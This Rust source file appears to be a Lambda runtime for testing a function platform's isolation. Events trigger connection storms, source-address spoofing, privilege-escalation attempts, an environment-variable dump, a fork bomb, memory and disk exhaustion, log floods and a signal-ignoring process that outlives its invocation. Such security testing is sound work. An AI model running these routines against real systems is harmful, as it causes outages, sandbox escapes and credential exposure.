//! A function that attacks: it does the act that its event names, and tells what came of it.
//!
//! It is its own runtime, on raw sockets of the standard library, so that nothing but the service stands between
//! an act and its effect. The bytes of an attack over HTTP are the event's, not this program's: `http` sends them
//! from as many connections as it is told, in the pace that it is told. In them `{id}` is the present invocation.

use std::collections::BTreeMap;
use std::ffi::CString;
use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, Shutdown, SocketAddrV4, TcpStream};
use std::os::fd::{FromRawFd, OwnedFd};
use std::os::unix::net::UnixStream;
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant};

use serde_json::{Map, Value, json};

const PATIENCE: Duration = Duration::from_secs(10);

fn main() {
    if std::env::args().nth(1).as_deref() == Some("survivor") {
        survive(&std::env::args().nth(2).unwrap_or_default());
    }
    let api = std::env::var("AWS_LAMBDA_RUNTIME_API").unwrap_or_default();
    loop {
        if let Err(error) = serve(&api) {
            // As when the service has hung up on a poll that another one has replaced.
            eprintln!("the runtime begins anew: {error}");
            thread::sleep(Duration::from_millis(50));
        }
    }
}

/// Takes one event after the other, on one connection.
fn serve(api: &str) -> io::Result<()> {
    let mut stream = TcpStream::connect(api)?;
    loop {
        write!(stream, "GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: {api}\r\n\r\n")?;
        let answer = read_answer(&mut stream)?;
        if answer.status != 200 {
            return Err(io::Error::other(format!("/next was answered {}", answer.status)));
        }
        let id = answer.header("lambda-runtime-aws-request-id").unwrap_or_default().to_owned();
        let event: Value = serde_json::from_slice(&answer.body).unwrap_or_default();
        let told = act(api, &id, &event).unwrap_or_else(|error| json!({"error": errno(&error)}));
        let body = told.to_string();
        write!(
            stream,
            "POST /2018-06-01/runtime/invocation/{id}/response HTTP/1.1\r\nHost: {api}\r\n\
             Content-Length: {}\r\n\r\n{body}",
            body.len()
        )?;
        read_answer(&mut stream)?;
        // What an act wants done once its invocation is over, in which nobody can look at it any more.
        if let Some(after) = event.get("after") {
            let _ = act(api, &id, after);
        }
    }
}

fn act(api: &str, id: &str, event: &Value) -> io::Result<Value> {
    let number = |key: &str| event[key].as_u64().unwrap_or(0);
    let duration = Duration::from_millis(number("ms"));
    match event["op"].as_str().unwrap_or("echo") {
        "http" => http(api, id, event),
        "reach" => Ok(reach(&event["addresses"])),
        "lookup" => lookup(event["name"].as_str().unwrap_or_default()),
        "forge" => Ok(forge(api, event["source"].as_str().unwrap_or_default())),
        "privileges" => Ok(privileges()),
        "spin" => {
            let until = Instant::now() + duration;
            while Instant::now() < until {}
            Ok(json!("spun"))
        }
        "sleep" => {
            thread::sleep(duration);
            Ok(json!("slept"))
        }
        "survive" => {
            let recorder = event["recorder"].as_str().unwrap_or_default();
            std::process::Command::new("/proc/self/exe").args(["survivor", recorder]).spawn()?;
            survive(recorder)
        }
        "fork" => fork_without_end(),
        "fill" => fill(event["path"].as_str().unwrap_or("/tmp")),
        "memory" => {
            let mut hog = Vec::new();
            loop {
                hog.push(vec![1u8; 1 << 20]); // written, so that the kernel counts it
            }
        }
        "flood" => flood(duration, event["line"].as_str().unwrap_or_default()),
        "print" => {
            io::stdout().write_all(event["text"].as_str().unwrap_or_default().as_bytes())?;
            io::stdout().flush()?;
            Ok(json!(id))
        }
        "env" => Ok(json!(std::env::vars().collect::<BTreeMap<_, _>>())),
        _ => Ok(json!({"id": id, "marker": std::env::var("MARKER").unwrap_or_default()})),
    }
}

struct Answer {
    status: u16,
    head: String,
    body: Vec<u8>,
}

impl Answer {
    fn header(&self, name: &str) -> Option<&str> {
        self.head.lines().find_map(|line| {
            let (key, value) = line.split_once(':')?;
            key.eq_ignore_ascii_case(name).then_some(value.trim())
        })
    }
}

fn read_answer(stream: &mut impl Read) -> io::Result<Answer> {
    let mut head = Vec::new();
    let mut byte = [0];
    while !head.ends_with(b"\r\n\r\n") {
        stream.read_exact(&mut byte)?;
        head.push(byte[0]);
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    let status = head.split(' ').nth(1).and_then(|word| word.parse().ok()).unwrap_or(0);
    let mut answer = Answer { status, head, body: Vec::new() };
    let length = answer.header("content-length").and_then(|text| text.parse().ok()).unwrap_or(0);
    answer.body.resize(length, 0);
    stream.read_exact(&mut answer.body)?;
    Ok(answer)
}

/// What connections have met with: how often which status, and the first body of each.
#[derive(Default)]
struct Met {
    statuses: BTreeMap<String, u64>,
    bodies: BTreeMap<String, String>,
}

/// Sends `send`, then `fill` `times` times, then `end`, from `connections` connections of `threads` threads at a
/// time, and reads the answers. `pace_ms` is the pause after each piece, `hold_ms` how long a connection stays
/// open without reading, `storm_ms` for how long the whole is repeated on each connection. `to` is another address
/// than the Runtime API's, `unread` leaves the answer. `background` goes on after this invocation.
fn http(api: &str, id: &str, event: &Value) -> io::Result<Value> {
    let act = event.to_string().replace("{id}", id).replace("{api}", api);
    let act: Arc<Value> = Arc::new(serde_json::from_str(&act)?);
    let to = act["to"].as_str().unwrap_or(api).to_owned();
    let met = Arc::new(Mutex::new(Met::default()));
    let connections = act["connections"].as_u64().unwrap_or(1);
    let holders: Vec<_> = (0..connections)
        .map(|_| {
            let (act, to, met) = (act.clone(), to.clone(), met.clone());
            let run = move || {
                let until = Instant::now() + milliseconds(&act, "storm_ms");
                loop {
                    let outcome = converse(&to, &act, until);
                    let outcome = outcome.unwrap_or_else(|error| vec![(errno(&error), Vec::new())]);
                    let mut met = met.lock().unwrap_or_else(|poisoned| poisoned.into_inner());
                    for (status, body) in outcome {
                        *met.statuses.entry(status.clone()).or_default() += 1;
                        let body = String::from_utf8_lossy(&body).chars().take(2000).collect();
                        met.bodies.entry(status).or_insert(body);
                    }
                    // In a storm a connection that was closed is followed by the next.
                    if Instant::now() >= until {
                        return;
                    }
                }
            };
            // Small stacks: a thousand connections must fit into a function's memory.
            thread::Builder::new().stack_size(48 << 10).spawn(run)
        })
        .collect::<io::Result<_>>()?;
    if act["background"] == true {
        thread::sleep(Duration::from_millis(act["settle_ms"].as_u64().unwrap_or(300)));
        return Ok(json!("in the background"));
    }
    for holder in holders {
        let _ = holder.join();
    }
    let met = met.lock().unwrap_or_else(|poisoned| poisoned.into_inner());
    Ok(json!({"statuses": met.statuses, "bodies": met.bodies}))
}

fn milliseconds(act: &Value, key: &str) -> Duration {
    Duration::from_millis(act[key].as_u64().unwrap_or(0))
}

fn converse(to: &str, act: &Value, until: Instant) -> io::Result<Vec<(String, Vec<u8>)>> {
    let address = to.parse().map_err(io::Error::other)?;
    let mut stream = TcpStream::connect_timeout(&address, PATIENCE)?;
    stream.set_write_timeout(Some(Duration::from_secs(3)))?;
    stream.set_read_timeout(Some(PATIENCE))?;
    let text = |key: &str| act[key].as_str().unwrap_or_default().as_bytes().to_vec();
    let (send, fill, end) = (text("send"), text("fill"), text("end"));
    let mut met = Vec::new();
    loop {
        // A server that has heard enough closes; what it has said is still there to be read.
        let sent = stream.write_all(&send).and_then(|()| {
            for _ in 0..act["times"].as_u64().unwrap_or(0) {
                stream.write_all(&fill)?;
                thread::sleep(milliseconds(act, "pace_ms"));
            }
            stream.write_all(&end)
        });
        if let Err(error) = &sent
            && matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut)
        {
            return Ok(vec![("the service reads no more".to_owned(), Vec::new())]);
        }
        thread::sleep(milliseconds(act, "hold_ms"));
        if act["unread"] == true {
            return Ok(vec![("unread".to_owned(), Vec::new())]);
        }
        if act["half_close"] == true {
            let _ = stream.shutdown(Shutdown::Write);
        }
        for _ in 0..act["answers"].as_u64().unwrap_or(1) {
            let answer = read_answer(&mut stream)?;
            met.push((answer.status.to_string(), answer.body));
        }
        if Instant::now() >= until {
            return Ok(met);
        }
    }
}

/// Which addresses can be connected to; `unix:PATH` is a socket in the file system.
fn reach(addresses: &Value) -> Value {
    let outcome = |address: &str| {
        let reached = match address.strip_prefix("unix:") {
            Some(path) => UnixStream::connect(path).map(drop),
            None => match address.parse() {
                Ok(address) => {
                    TcpStream::connect_timeout(&address, Duration::from_secs(2)).map(drop)
                }
                Err(error) => Err(io::Error::other(error)),
            },
        };
        reached.map_or_else(|error| errno(&error), |()| "reached".to_owned())
    };
    let addresses = addresses.as_array().into_iter().flatten().filter_map(Value::as_str);
    addresses
        .map(|address| (address.to_owned(), json!(outcome(address))))
        .collect::<Map<_, _>>()
        .into()
}

/// Asks the name servers of resolv.conf, one datagram each, for an address of the name.
fn lookup(name: &str) -> io::Result<Value> {
    let mut query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00".to_vec();
    for label in name.split('.') {
        query.push(u8::try_from(label.len()).unwrap_or(63));
        query.extend_from_slice(label.as_bytes());
    }
    query.extend_from_slice(b"\0\x00\x01\x00\x01");
    let resolv = std::fs::read_to_string("/etc/resolv.conf")?;
    let mut told = Map::new();
    for server in resolv.lines().filter_map(|line| line.strip_prefix("nameserver ")) {
        let ask = || {
            let socket = std::net::UdpSocket::bind("0.0.0.0:0")?;
            socket.set_read_timeout(Some(Duration::from_secs(6)))?;
            socket.send_to(&query, (server.trim(), 53))?;
            let mut answer = [0; 1500];
            let received = socket.recv(&mut answer)?;
            // RFC 1035: the code is in the fourth byte, the number of answers in the next ones.
            Ok::<_, io::Error>(format!(
                "code {}, {} answers, {received} bytes",
                answer[3] & 15,
                answer[7]
            ))
        };
        let outcome = ask().unwrap_or_else(|error| errno(&error));
        told.insert(server.to_owned(), json!(outcome));
    }
    Ok(Value::Object(told))
}

/// The symbol of an error number, else the error's text.
fn errno(error: &io::Error) -> String {
    let names = [
        (libc::EPERM, "EPERM"),
        (libc::EACCES, "EACCES"),
        (libc::EINVAL, "EINVAL"),
        (libc::ENOENT, "ENOENT"),
        (libc::EROFS, "EROFS"),
        (libc::ENOSPC, "ENOSPC"),
        (libc::EAGAIN, "EAGAIN"),
        (libc::ECONNREFUSED, "ECONNREFUSED"),
        (libc::ECONNRESET, "ECONNRESET"),
        (libc::ENETUNREACH, "ENETUNREACH"),
        (libc::EHOSTUNREACH, "EHOSTUNREACH"),
        (libc::EADDRNOTAVAIL, "EADDRNOTAVAIL"),
        (libc::EMFILE, "EMFILE"),
        (libc::ENOSYS, "ENOSYS"),
        (libc::EAFNOSUPPORT, "EAFNOSUPPORT"),
    ];
    let known =
        error.raw_os_error().and_then(|code| names.iter().find(|(number, _)| *number == code));
    known.map_or_else(|| error.to_string(), |(_, name)| (*name).to_owned())
}

fn system(result: libc::c_int) -> io::Result<libc::c_int> {
    if result < 0 { Err(io::Error::last_os_error()) } else { Ok(result) }
}

fn socket(domain: libc::c_int, kind: libc::c_int, protocol: libc::c_int) -> io::Result<OwnedFd> {
    // SAFETY: the call takes three numbers, and gives a descriptor that nobody else owns.
    unsafe { system(libc::socket(domain, kind, protocol)).map(|fd| OwnedFd::from_raw_fd(fd)) }
}

/// Tries to call the Runtime API from another's address, in all the ways that a program without privileges has.
fn forge(api: &str, source: &str) -> Value {
    let told = |outcome: io::Result<String>| json!(outcome.unwrap_or_else(|error| errno(&error)));
    json!({
        "bind": told(call_from(api, source, None)),
        "freebind": told(call_from(api, source, Some((libc::SOL_IP, libc::IP_FREEBIND)))),
        "transparent": told(call_from(api, source, Some((libc::SOL_IP, libc::IP_TRANSPARENT)))),
        "loopback": told(call_from(api, "127.0.0.1", None)),
        "raw": told(socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_TCP).map(|_| "opened".into())),
        "raw with header": told(socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW).map(|_| "opened".into())),
        "packet": told(socket(libc::AF_PACKET, libc::SOCK_RAW, 0x0300).map(|_| "opened".into())),
        "packet, cooked": told(socket(libc::AF_PACKET, libc::SOCK_DGRAM, 0x0300).map(|_| "opened".into())),
        "add address": told(add_address(source).map(|()| "added".into())),
    })
}

/// Connects to the Runtime API from this address, with an option set, and says what the service answers.
fn call_from(api: &str, source: &str, option: Option<(i32, i32)>) -> io::Result<String> {
    use std::os::fd::AsRawFd;
    let socket = socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    let on: libc::c_int = 1;
    let size = size_of::<libc::c_int>() as libc::socklen_t;
    if let Some((level, name)) = option {
        // SAFETY: the option's value is a number that outlives the call.
        system(unsafe {
            libc::setsockopt(socket.as_raw_fd(), level, name, (&raw const on).cast(), size)
        })?;
    }
    let raw = |address: SocketAddrV4| libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: address.port().to_be(),
        sin_addr: libc::in_addr { s_addr: u32::from(*address.ip()).to_be() },
        sin_zero: [0; 8],
    };
    let source: Ipv4Addr = source.parse().map_err(io::Error::other)?;
    let (from, to) =
        (raw(SocketAddrV4::new(source, 0)), raw(api.parse().map_err(io::Error::other)?));
    let size = size_of::<libc::sockaddr_in>() as libc::socklen_t;
    // A packet that nobody answers must not take minutes.
    let patience = libc::timeval { tv_sec: 2, tv_usec: 0 };
    // SAFETY: all three take a pointer to a value of the size beside it, which outlives the call.
    unsafe {
        let fd = socket.as_raw_fd();
        let of_patience = size_of::<libc::timeval>() as libc::socklen_t;
        for name in [libc::SO_SNDTIMEO, libc::SO_RCVTIMEO] {
            system(libc::setsockopt(
                fd,
                libc::SOL_SOCKET,
                name,
                (&raw const patience).cast(),
                of_patience,
            ))?;
        }
        system(libc::bind(fd, (&raw const from).cast(), size))?;
        system(libc::connect(fd, (&raw const to).cast(), size))?;
    }
    let mut stream = TcpStream::from(socket);
    write!(stream, "GET /health HTTP/1.1\r\nHost: x\r\n\r\n")?;
    Ok(format!("answered {}", read_answer(&mut stream)?.status))
}

/// Gives the container's interface another address (ioctl SIOCSIFADDR on an alias).
fn add_address(address: &str) -> io::Result<()> {
    use std::os::fd::AsRawFd;
    let socket = socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let address: Ipv4Addr = address.parse().map_err(io::Error::other)?;
    // struct ifreq: 16 bytes of name, then a sockaddr.
    let mut request = [0u8; 40];
    request[..6].copy_from_slice(b"eth0:1");
    request[16] = libc::AF_INET as u8;
    request[20..24].copy_from_slice(&address.octets());
    // SAFETY: the request is as large as struct ifreq, and outlives the call.
    system(unsafe { libc::ioctl(socket.as_raw_fd(), libc::SIOCSIFADDR as _, request.as_mut_ptr()) })
        .map(drop)
}

/// What could lead out of the container.
fn privileges() -> Value {
    // SAFETY: neither call takes a pointer; a thread of its own, for a namespace that were given would be this one's.
    let unshare = |flags| thread::spawn(move || system(unsafe { libc::unshare(flags) })).join();
    let told = |outcome: io::Result<()>| {
        json!(outcome.map_or_else(|error| errno(&error), |()| "done".into()))
    };
    let joined = |flags| match unshare(flags) {
        Ok(outcome) => outcome.map(drop),
        Err(_) => Err(io::Error::other("panicked")),
    };
    let text = |text: &str| CString::new(text).unwrap_or_default();
    let (none, proc, root) = (text("none"), text("proc"), text("/"));
    // SAFETY: every pointer is to a string that outlives the call, or null where that is allowed.
    let mount = system(unsafe {
        libc::mount(none.as_ptr(), root.as_ptr(), proc.as_ptr(), libc::MS_REMOUNT, std::ptr::null())
    });
    // SAFETY: no pointer.
    let root = system(unsafe { libc::setuid(0) });
    // SAFETY: a null pointer asks the kernel to trace this process.
    let keyring = unsafe { libc::syscall(libc::SYS_keyctl, 0, -3, 1, 0, 0) };
    let keyring = if keyring < 0 { Err(io::Error::last_os_error()) } else { Ok(()) };
    json!({
        "user namespace": told(joined(libc::CLONE_NEWUSER)),
        "network namespace": told(joined(libc::CLONE_NEWNET)),
        "mount": told(mount.map(drop)),
        "root": told(root.map(drop)),
        "keyring": told(keyring),
        "kernel settings": told(std::fs::write("/proc/sys/net/ipv4/ip_forward", "1")),
        "device": told(std::fs::read("/dev/mem").map(drop)),
        "hosts": told(std::fs::write("/etc/hosts", "127.0.0.1 x")),
    })
}

/// Tells the recorder ten times a second that it lives, deaf to every signal that can be ignored.
fn survive(recorder: &str) -> ! {
    for signal in [libc::SIGTERM, libc::SIGINT, libc::SIGHUP, libc::SIGPIPE] {
        // SAFETY: ignoring a signal runs no code.
        unsafe { libc::signal(signal, libc::SIG_IGN) };
    }
    // SAFETY: no pointer; it leaves its parent's group, so that no signal to that one is for it.
    unsafe { libc::setsid() };
    let mut stream = TcpStream::connect(recorder).ok();
    loop {
        if let Some(open) = &mut stream
            && open.write_all(b".").is_err()
        {
            stream = TcpStream::connect(recorder).ok();
        }
        thread::sleep(Duration::from_millis(100));
    }
}

fn fork_without_end() -> ! {
    loop {
        // SAFETY: the child runs this same loop, which takes no lock and allocates nothing.
        unsafe { libc::fork() };
    }
}

/// Writes until no more is taken; which error ended it, and after how much.
fn fill(path: &str) -> io::Result<Value> {
    let block = vec![1u8; 1 << 20];
    let mut written = 0;
    let ended = 'full: loop {
        let mut file = match std::fs::File::create(format!("{path}/{written}")) {
            Ok(file) => file,
            Err(error) => break error,
        };
        for _ in 0..16 {
            match file.write(&block) {
                Ok(amount) => written += amount,
                Err(error) => break 'full error,
            }
        }
    };
    Ok(json!({"bytes": written, "ended": errno(&ended)}))
}

/// Prints this line at full speed, or one without end.
fn flood(duration: Duration, line: &str) -> io::Result<Value> {
    let block = match line {
        "" => vec![b'x'; 1 << 16],
        line => format!("{line}\n").repeat(((1 << 16) / (line.len() + 1)).max(1)).into_bytes(),
    };
    let until = Instant::now() + duration;
    let mut written = 0;
    let mut out = io::stdout().lock();
    while Instant::now() < until {
        out.write_all(&block)?;
        written += block.len();
    }
    Ok(json!({"bytes": written}))
}
